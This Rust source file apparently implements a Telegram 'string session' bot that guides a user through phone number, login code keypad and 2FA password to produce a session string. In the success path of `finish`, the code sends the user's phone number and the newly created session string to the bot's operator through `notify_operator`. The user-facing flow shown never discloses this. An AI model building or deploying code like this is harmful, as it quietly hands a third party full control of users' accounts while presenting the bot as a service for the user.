//! The conversation leading a user from `/start` to a session string.

use std::sync::Arc;
use std::time::Duration;

use crate::{BoxFuture, HandlerResult, StringBotError};
use crate::acquire::{Acquirer, Acquisition};
use crate::conversation::{Conversation, ConversationStore, Stage};
use crate::keypad::{KeypadPress, CODE_LENGTH};
use crate::reply::{self, Markup, Reply};
use crate::retry::Sleeper;

/// Delay before trying to delete a message again
pub const DELETE_RETRY_DELAY: Duration = Duration::from_secs(1);
const DELETE_ATTEMPTS: u32 = 2;

/// Outgoing side of a single chat
pub trait Outbox: Send + Sync {
    /// Send a new message
    fn send(&self, reply: Reply) -> BoxFuture<'_, Result<(), StringBotError>>;

    /// Replace the message the user pressed a button on, or send a new one
    fn edit(&self, reply: Reply) -> BoxFuture<'_, Result<(), StringBotError>>;

    /// Delete one of the user's messages
    fn delete(&self, message_id: i32) -> BoxFuture<'_, Result<(), StringBotError>>;
}

/// Side channel to the bot's operator
pub trait Operator: Send + Sync {
    /// Send `text` to the operator
    fn notify(&self, text: String) -> BoxFuture<'_, Result<(), StringBotError>>;
}

/// How the final answer reaches the user
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Delivery {
    Edit,
    Send,
}

/// Drives every conversation stored in its [`ConversationStore`]
pub struct SessionFlow {
    store: ConversationStore,
    acquirer: Arc<dyn Acquirer>,
    operator: Arc<dyn Operator>,
    sleeper: Arc<dyn Sleeper>,
}

impl SessionFlow {
    pub fn new(
        store: ConversationStore,
        acquirer: Arc<dyn Acquirer>,
        operator: Arc<dyn Operator>,
        sleeper: Arc<dyn Sleeper>,
    ) -> SessionFlow {
        SessionFlow { store, acquirer, operator, sleeper }
    }

    pub fn store(&self) -> &ConversationStore {
        &self.store
    }

    /// `/start`, always begins from scratch
    pub async fn start(&self, chat: i64, outbox: &dyn Outbox) -> HandlerResult {
        if let Some(previous) = self.store.end(chat) {
            self.discard(&previous).await;
        }
        self.store.start(chat);
        info!("[{chat}] Conversation started");
        outbox.send(Reply::ask_phone()).await
    }

    /// Contact shared by the user
    pub async fn contact(&self, chat: i64, phone: &str, message_id: i32, outbox: &dyn Outbox) -> HandlerResult {
        let mut accepted = false;
        self.store.update(chat, |c| {
            if c.stage == Stage::AwaitingPhone {
                c.phone = Some(phone.to_string());
                c.code.clear();
                c.stage = Stage::AwaitingCode;
                accepted = true;
            }
        });
        if !accepted {
            debug!("[{chat}] Contact outside of phone stage ignored");
            return Ok(());
        }

        self.delete_sensitive(chat, message_id, "contact", outbox).await;

        if let Err(message) = self.acquirer.request_code(phone).await {
            self.store.end(chat);
            return outbox.send(Reply::failed(&message).with_markup(Markup::Remove)).await;
        }
        // Cancelled while the code was being requested
        if self.store.stage(chat) != Stage::AwaitingCode {
            self.acquirer.discard(phone).await;
            return Ok(());
        }
        info!("[{chat}] Waiting for the login code");
        self.send_keypad(chat, Reply::ask_code(), outbox).await
    }

    /// Text message, the password when one is expected
    pub async fn text(&self, chat: i64, text: &str, message_id: i32, outbox: &dyn Outbox) -> HandlerResult {
        let Some(conversation) = self.waiting(chat) else {
            return Ok(());
        };
        match conversation.stage {
            Stage::AwaitingPassword if !text.is_empty() => self.password(chat, text, message_id, outbox).await,
            _ => self.reprompt(chat, &conversation, outbox).await,
        }
    }

    /// Message without text (sticker, photo, voice...), asks again for what is expected
    pub async fn other(&self, chat: i64, outbox: &dyn Outbox) -> HandlerResult {
        match self.waiting(chat) {
            Some(conversation) => self.reprompt(chat, &conversation, outbox).await,
            None => Ok(()),
        }
    }

    /// Button pressed on the code keypad
    pub async fn keypad(&self, chat: i64, press: KeypadPress, outbox: &dyn Outbox) -> HandlerResult {
        if self.waiting(chat).map(|c| c.stage) != Some(Stage::AwaitingCode) {
            debug!("[{chat}] Keypad press outside of code stage ignored");
            return Ok(());
        }

        match press {
            KeypadPress::Digit { buffer } => {
                self.store.update(chat, |c| c.code = buffer.clone());
                self.show_keypad(chat, Reply::code_progress(&buffer), outbox).await
            }
            KeypadPress::Submit { buffer } if buffer.len() != CODE_LENGTH => {
                self.show_keypad(chat, Reply::invalid_code_length(&buffer, CODE_LENGTH), outbox).await
            }
            KeypadPress::Submit { buffer } => {
                let Some(claimed) = self.store.claim(chat, Stage::AwaitingCode, |c| c.code = buffer.clone()) else {
                    debug!("[{chat}] Code already submitted");
                    return Ok(());
                };
                let phone = claimed.phone.clone().ok_or(StringBotError::MissingParameters("phone number"))?;
                info!("[{chat}] Code submitted, logging in");
                let result = self.acquirer.acquire(&phone, &buffer, None).await;
                self.finish(chat, &claimed, &phone, result, Delivery::Edit, outbox).await
            }
        }
    }

    /// `/cancel`
    pub async fn cancel(&self, chat: i64, outbox: &dyn Outbox) -> HandlerResult {
        if let Some(conversation) = self.store.end(chat) {
            info!("[{chat}] Conversation cancelled");
            self.discard(&conversation).await;
        }
        outbox.send(Reply::cancelled()).await
    }

    /// Last resort for errors escaping the handlers: tell the user, tell the operator, forget the conversation
    pub async fn fail(&self, chat: Option<i64>, error: &StringBotError, outbox: Option<&dyn Outbox>) {
        error!("Error while handling update: {error}");
        if let Some(conversation) = chat.and_then(|chat| self.store.end(chat)) {
            self.discard(&conversation).await;
        }
        if let Some(outbox) = outbox {
            if let Err(e) = outbox.send(Reply::unexpected_error()).await {
                warn!("Failed to send error message to user: {e}");
            }
        }
        self.notify_operator(format!("Error: {error}")).await;
    }

    /// Conversation able to take input, none while a login is running
    fn waiting(&self, chat: i64) -> Option<Conversation> {
        match self.store.get(chat) {
            None => {
                debug!("[{chat}] Input without conversation ignored");
                None
            }
            Some(c) if c.in_flight => {
                debug!("[{chat}] Input while logging in ignored");
                None
            }
            conversation => conversation,
        }
    }

    async fn reprompt(&self, chat: i64, conversation: &Conversation, outbox: &dyn Outbox) -> HandlerResult {
        match conversation.stage {
            Stage::AwaitingPhone => outbox.send(Reply::ask_phone_again()).await,
            Stage::AwaitingCode => self.send_keypad(chat, Reply::ask_code_again(&conversation.code), outbox).await,
            Stage::AwaitingPassword => outbox.send(Reply::ask_password()).await,
            Stage::Terminated => Ok(()),
        }
    }

    /// New keypad message
    async fn send_keypad(&self, chat: i64, reply: Reply, outbox: &dyn Outbox) -> HandlerResult {
        self.store.update(chat, |c| c.keypad = Some(reply.clone()));
        outbox.send(reply).await
    }

    /// Edit the keypad message, unless it already shows exactly `reply`
    async fn show_keypad(&self, chat: i64, reply: Reply, outbox: &dyn Outbox) -> HandlerResult {
        let mut changed = false;
        self.store.update(chat, |c| {
            if c.keypad.as_ref() != Some(&reply) {
                c.keypad = Some(reply.clone());
                changed = true;
            }
        });
        if !changed {
            debug!("[{chat}] Keypad unchanged");
            return Ok(());
        }
        outbox.edit(reply).await
    }

    /// Second factor received
    async fn password(&self, chat: i64, password: &str, message_id: i32, outbox: &dyn Outbox) -> HandlerResult {
        let Some(claimed) = self.store.claim(chat, Stage::AwaitingPassword, |c| c.password = Some(password.to_string())) else {
            debug!("[{chat}] Password already being checked");
            return Ok(());
        };
        let phone = claimed.phone.clone().ok_or(StringBotError::MissingParameters("phone number"))?;
        self.delete_sensitive(chat, message_id, "password", outbox).await;

        info!("[{chat}] Password received, logging in");
        let result = self.acquirer.acquire(&phone, &claimed.code, Some(password)).await;
        self.finish(chat, &claimed, &phone, result, Delivery::Send, outbox).await
    }

    /// Relay the outcome of the login started from `claimed`
    async fn finish(
        &self,
        chat: i64,
        claimed: &Conversation,
        phone: &str,
        result: Acquisition,
        delivery: Delivery,
        outbox: &dyn Outbox,
    ) -> HandlerResult {
        let id = claimed.id;
        let reply = match result {
            // The account is logged in now, the string is delivered even if the user cancelled meanwhile
            Acquisition::Success(session) => {
                match self.store.release(chat, id, |c| c.stage = Stage::Terminated) {
                    Some(_) => info!("[{chat}] Session created"),
                    None => info!("[{chat}] Session created after the conversation ended"),
                }
                self.notify_operator(reply::operator_session(phone, &session)).await;
                outbox.send(Reply::session_string(&session)).await?;
                Reply::session_sent()
            }
            Acquisition::PasswordRequired if claimed.stage == Stage::AwaitingCode => {
                if self.store.release(chat, id, |c| c.stage = Stage::AwaitingPassword).is_none() {
                    debug!("[{chat}] Conversation ended while logging in");
                    self.acquirer.discard(phone).await;
                    return Ok(());
                }
                info!("[{chat}] Waiting for 2FA password");
                Reply::ask_password()
            }
            // Asking again would revisit the password stage
            Acquisition::PasswordRequired => {
                self.acquirer.discard(phone).await;
                if self.store.release(chat, id, |c| c.stage = Stage::Terminated).is_none() {
                    return Ok(());
                }
                Reply::failed("Error: 2FA password was not accepted")
            }
            Acquisition::Failure(message) => {
                info!("[{chat}] Login failed");
                if self.store.release(chat, id, |c| c.stage = Stage::Terminated).is_none() {
                    return Ok(());
                }
                Reply::failed(&message)
            }
        };

        match delivery {
            Delivery::Edit => outbox.edit(reply).await,
            Delivery::Send => outbox.send(reply).await,
        }
    }

    /// Delete a message containing personal data, retrying once
    async fn delete_sensitive(&self, chat: i64, message_id: i32, what: &str, outbox: &dyn Outbox) {
        for attempt in 1..=DELETE_ATTEMPTS {
            let e = match outbox.delete(message_id).await {
                Ok(()) => return,
                Err(e) => e,
            };
            warn!("[{chat}] Attempt {attempt} failed to delete {what} message: {e}");
            if attempt < DELETE_ATTEMPTS {
                self.sleeper.sleep(DELETE_RETRY_DELAY).await;
            } else {
                self.notify_operator(format!("Failed to delete {what} message: {e}")).await;
            }
        }
    }

    async fn notify_operator(&self, text: String) {
        if let Err(e) = self.operator.notify(text).await {
            warn!("Failed to notify operator: {e}");
        }
    }

    async fn discard(&self, conversation: &Conversation) {
        if let Some(phone) = &conversation.phone {
            self.acquirer.discard(phone).await;
        }
    }
}
